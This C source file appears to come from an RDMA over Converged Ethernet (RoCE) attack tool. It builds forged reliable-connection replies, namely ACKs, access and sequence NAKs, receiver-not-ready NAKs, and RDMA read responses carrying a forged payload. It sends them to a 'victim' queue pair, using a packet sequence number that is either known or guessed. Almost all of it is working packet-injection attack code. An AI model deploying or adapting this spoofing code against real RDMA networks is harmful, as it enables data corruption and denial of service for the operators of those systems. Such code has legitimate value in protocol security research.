// SPDX-License-Identifier: BSD-2-Clause
#include "answers.h"

#include "aim.h"
#include "count.h"

enum {
	NO_CREDITS = 0x1f, /* an ACK that tells none (IBA table 46) */
	LONGEST_WAIT = 0,  /* 655 ms (IBA table 45) */
};

static struct roce answer(const struct victim *victim, uint32_t psn, uint8_t syndrome)
{
	return (struct roce){ .opcode = RC_ACKNOWLEDGE,
		              .pkey = 0xffff,
		              .dest_qpn = victim_peer_qpn(victim),
		              .psn = psn & PSN_MASK_24,
		              .syndrome = syndrome };
}

static struct roce ack(const struct victim *victim, uint32_t psn)
{
	return answer(victim, psn, AETH_ACK | NO_CREDITS);
}

static struct roce access_nak(const struct victim *victim, uint32_t psn)
{
	return answer(victim, psn, NAK_REMOTE_ACCESS);
}

static struct roce sequence_nak(const struct victim *victim, uint32_t psn)
{
	return answer(victim, psn, NAK_PSN_SEQUENCE);
}

static struct roce rnr_nak(const struct victim *victim, uint32_t psn)
{
	return answer(victim, psn, AETH_RNR_NAK | LONGEST_WAIT);
}

static struct roce response(const struct victim *victim, uint32_t psn)
{
	struct roce packet = ack(victim, psn);

	packet.opcode = RC_READ_RESPONSE_ONLY;
	packet.payload = (const uint8_t *)FORGED;
	packet.length = sizeof(FORGED);
	return packet;
}

static void known(struct victim *victim, struct forger *forger, enum ibv_wr_opcode asked,
                  forger_of *make)
{
	uint32_t psn = victim_ask(victim, asked, sizeof(FORGED));

	aim_known(victim, forger, make, psn);
}

static void guessed(struct victim *victim, struct forger *forger,
                    enum ibv_wr_opcode asked, forger_of *make)
{
	victim_ask(victim, asked, sizeof(FORGED));
	aim_guesses(victim, forger, make, answers_refused);
}

void answers_guessed_ack(struct victim *victim, struct forger *forger)
{
	guessed(victim, forger, IBV_WR_SEND, ack);
}

void answers_known_ack(struct victim *victim, struct forger *forger)
{
	known(victim, forger, IBV_WR_SEND, ack);
}

void answers_guessed_nak(struct victim *victim, struct forger *forger)
{
	guessed(victim, forger, IBV_WR_SEND, access_nak);
}

void answers_known_nak(struct victim *victim, struct forger *forger)
{
	known(victim, forger, IBV_WR_SEND, access_nak);
}

void answers_sequence_nak(struct victim *victim, struct forger *forger)
{
	known(victim, forger, IBV_WR_SEND, sequence_nak);
}

void answers_rnr_nak(struct victim *victim, struct forger *forger)
{
	known(victim, forger, IBV_WR_SEND, rnr_nak);
}

void answers_guessed_response(struct victim *victim, struct forger *forger)
{
	guessed(victim, forger, IBV_WR_RDMA_READ, response);
}

void answers_known_response(struct victim *victim, struct forger *forger)
{
	known(victim, forger, IBV_WR_RDMA_READ, response);
}
